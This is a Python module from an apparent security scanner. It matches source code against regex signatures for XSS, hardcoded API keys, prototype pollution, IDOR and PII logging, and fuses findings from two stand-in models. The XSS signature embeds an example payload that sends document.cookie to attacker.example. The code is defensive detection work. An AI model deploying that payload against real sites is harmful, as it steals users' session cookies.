#!/usr/bin/env python3
"""
AI Scanner Module

AI-assisted analysis with two independent models and a fusion mode.

Models are plain callables ``(source, config) -> list[RawFinding]`` so a real
LLM client can be plugged in without touching the orchestrator.  The bundled
defaults are deterministic heuristic stand-ins that share one signature
catalog; where both models cover a signature they report it identically,
which lets the deduplicator recognize cross-model agreement.

Fusion mode runs both models concurrently, returns the union of their
findings, and adds a synthetic cross-check finding when the combined
evidence points at PII exposure in user-profile handling.

Transient model errors (``TransientModelError``) are retried with tenacity up
to ``ScanConfiguration.ai_max_attempts`` attempts.
"""

from __future__ import annotations

import logging
import re
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from typing import Callable, FrozenSet, Iterable, List, Optional, Pattern

from tenacity import (
    before_sleep_log,
    retry,
    retry_if_exception_type,
    stop_after_attempt,
    wait_exponential,
)

from exceptions import TransientModelError
from schemas import (
    AiModel,
    BackendKind,
    ComplianceStandard,
    RawFinding,
    ScanConfiguration,
    ScannerTag,
    Severity,
)

from .base import BaseScanner, coerce_raw_findings, match_lines

__all__ = [
    "ModelFn",
    "AiSignature",
    "HeuristicModel",
    "AiScanner",
    "AI_SIGNATURES",
    "default_model_a",
    "default_model_b",
    "cross_check",
]

logger = logging.getLogger(__name__)

ModelFn = Callable[[str, ScanConfiguration], List[RawFinding]]

FUSION_CROSS_CHECK_TITLE = "Behavioral Pattern Anomaly (PII Exposure)"
_USER_PROFILE = re.compile(r"user_?profile", re.IGNORECASE)
_PII_OR_XSS = re.compile(r"\bPII\b|XSS|cross-site scripting|personal data", re.IGNORECASE)


# ---------------------------------------------------------------------------
# Heuristic model catalog
# ---------------------------------------------------------------------------


@dataclass(frozen=True)
class AiSignature:
    title: str
    pattern: Pattern[str]
    severity: Severity
    cwe_id: str
    description: str
    mitigation: str
    models: FrozenSet[AiModel]
    exploit: Optional[str] = None


_BOTH = frozenset({AiModel.MODEL_A, AiModel.MODEL_B})
_A = frozenset({AiModel.MODEL_A})
_B = frozenset({AiModel.MODEL_B})

AI_SIGNATURES: List[AiSignature] = [
    AiSignature(
        "Hardcoded API Key",
        re.compile(r"(api[_-]?key|secret[_-]?key)\s*[:=]\s*['\"][^'\"]{8,}['\"]|sk-[A-Za-z0-9]{20,}", re.IGNORECASE),
        Severity.CRITICAL,
        "CWE-798",
        "An API credential is embedded in source code, where anyone with access to the "
        "repository or the shipped bundle can extract and abuse it.",
        "Move the credential to a secrets manager or environment configuration and rotate it.",
        _BOTH,
    ),
    AiSignature(
        "Cross-Site Scripting (XSS) in User Content Rendering",
        re.compile(r"dangerouslySetInnerHTML|\.innerHTML\s*=|v-html"),
        Severity.HIGH,
        "CWE-79",
        "User-controlled content is rendered as HTML. Script payloads stored in that content "
        "execute in other users' browsers.",
        "Render user content as text or sanitize it with an allow-list HTML sanitizer.",
        _BOTH,
        exploit="<svg onload=fetch('//attacker.example/'+document.cookie)> in a bio field.",
    ),
    AiSignature(
        "Prototype Pollution via Unsafe Object Merge",
        re.compile(r"__proto__|Object\.assign\s*\([^)]*req\.(body|query)|merge\s*\([^)]*req\.(body|query)"),
        Severity.MEDIUM,
        "CWE-1321",
        "Request data is merged into objects without key filtering, allowing __proto__ keys "
        "to modify shared prototypes.",
        "Reject __proto__, constructor and prototype keys or merge into Object.create(null).",
        _A,
    ),
    AiSignature(
        "Missing Authorization on Administrative Route",
        re.compile(r"(app|router)\.(get|post|put|delete)\s*\(\s*['\"]/(api/)?admin"),
        Severity.HIGH,
        "CWE-862",
        "An administrative route is registered without an authorization guard in the "
        "handler chain.",
        "Add role-based authorization middleware in front of every administrative route.",
        _A,
    ),
    AiSignature(
        "PII Exposure in Application Logs",
        re.compile(r"(console\.log|logger\.\w+|print)\s*\([^)]*(email|ssn|phone|password|userProfile)", re.IGNORECASE),
        Severity.MEDIUM,
        "CWE-532",
        "Personal data (PII) is written to application logs, widening its exposure to "
        "log pipelines and operators.",
        "Remove personal data from log statements or mask it before logging.",
        _B,
    ),
    AiSignature(
        "Insecure Direct Object Reference",
        re.compile(r"find(ById|One)?\s*\(\s*req\.(params|query)\.\w*id", re.IGNORECASE),
        Severity.HIGH,
        "CWE-639",
        "Records are fetched by a caller-supplied identifier without checking that the "
        "caller owns the record.",
        "Scope lookups to the authenticated principal and verify ownership before returning data.",
        _B,
    ),
]


class HeuristicModel:
    """Deterministic stand-in for an AI model, driven by ``AI_SIGNATURES``."""

    def __init__(self, model: AiModel, signatures: Optional[Iterable[AiSignature]] = None):
        self.model = model
        catalog = signatures if signatures is not None else AI_SIGNATURES
        self.signatures = [s for s in catalog if model in s.models]

    def __call__(self, source: str, config: ScanConfiguration) -> List[RawFinding]:
        findings = []
        for sig in self.signatures:
            locations = match_lines(source, sig.pattern)
            if not locations:
                continue
            findings.append(
                RawFinding(
                    title=sig.title,
                    description=sig.description,
                    severity=sig.severity,
                    mitigation=sig.mitigation,
                    exploit=sig.exploit,
                    cwe_id=sig.cwe_id,
                    locations=locations,
                )
            )
        return findings

    def __repr__(self) -> str:
        return f"HeuristicModel({self.model.value})"


default_model_a = HeuristicModel(AiModel.MODEL_A)
default_model_b = HeuristicModel(AiModel.MODEL_B)


# ---------------------------------------------------------------------------
# Fusion cross-check
# ---------------------------------------------------------------------------


def cross_check(
    source: str, findings_a: List[RawFinding], findings_b: List[RawFinding]
) -> Optional[RawFinding]:
    """Return a synthetic fusion finding when both models corroborate PII risk.

    Fires only when both models reported something, the source handles user
    profiles, and at least one finding concerns PII or XSS.
    """
    if not findings_a or not findings_b:
        return None
    if not _USER_PROFILE.search(source):
        return None
    combined = findings_a + findings_b
    if not any(_PII_OR_XSS.search(f"{f.title} {f.description}") for f in combined):
        return None

    return RawFinding(
        title=FUSION_CROSS_CHECK_TITLE,
        description=(
            "Both AI models flagged weaknesses in code that handles user profiles, and at "
            "least one concerns PII or script injection. Together they indicate personal "
            "data can be exfiltrated from profile rendering."
        ),
        severity=Severity.CRITICAL,
        mitigation=(
            "Sanitize all profile fields on input and output, minimize the personal data "
            "rendered client side, and add data-access auditing."
        ),
        confidence=98,
        cwe_id="CWE-359",
        regulatory_impact=(ComplianceStandard.GDPR, ComplianceStandard.HIPAA),
        locations=tuple(loc for f in combined for loc in f.locations)[:10],
        origin=ScannerTag.AI_FUSION,
    )


# ---------------------------------------------------------------------------
# Backend
# ---------------------------------------------------------------------------


class AiScanner(BaseScanner):
    """AI-assisted analysis backend with model A, model B and fusion modes."""

    name = "ai-scanner"
    kind = BackendKind.AI
    scanner_tag = ScannerTag.AI_FUSION

    def __init__(
        self,
        model_a: Optional[ModelFn] = None,
        model_b: Optional[ModelFn] = None,
        retry_wait=None,
    ):
        self.model_a = model_a or default_model_a
        self.model_b = model_b or default_model_b
        self.retry_wait = retry_wait or wait_exponential(multiplier=0.5, min=0.5, max=4)

    def _call_model(
        self, label: str, model: ModelFn, tag: ScannerTag, source: str, config: ScanConfiguration
    ) -> List[RawFinding]:
        call = retry(
            stop=stop_after_attempt(config.ai_max_attempts),
            wait=self.retry_wait,
            retry=retry_if_exception_type(TransientModelError),
            before_sleep=before_sleep_log(logger, logging.WARNING),
            reraise=True,
        )(model)
        findings = coerce_raw_findings(f"{self.name}/{label}", call(source, config))
        return [f if f.origin else f.model_copy(update={"origin": tag}) for f in findings]

    def _scan(self, source: str, config: ScanConfiguration) -> List[RawFinding]:
        if config.ai_model == AiModel.MODEL_A:
            return self._call_model("model-a", self.model_a, ScannerTag.AI_MODEL_A, source, config)
        if config.ai_model == AiModel.MODEL_B:
            return self._call_model("model-b", self.model_b, ScannerTag.AI_MODEL_B, source, config)

        with ThreadPoolExecutor(max_workers=2, thread_name_prefix="ai-model") as executor:
            future_a = executor.submit(
                self._call_model, "model-a", self.model_a, ScannerTag.AI_MODEL_A, source, config
            )
            future_b = executor.submit(
                self._call_model, "model-b", self.model_b, ScannerTag.AI_MODEL_B, source, config
            )
            findings_a = future_a.result()
            findings_b = future_b.result()

        findings = findings_a + findings_b
        fused = cross_check(source, findings_a, findings_b)
        if fused is not None:
            logger.info("Fusion cross-check raised '%s'", fused.title)
            findings.append(fused)
        return findings
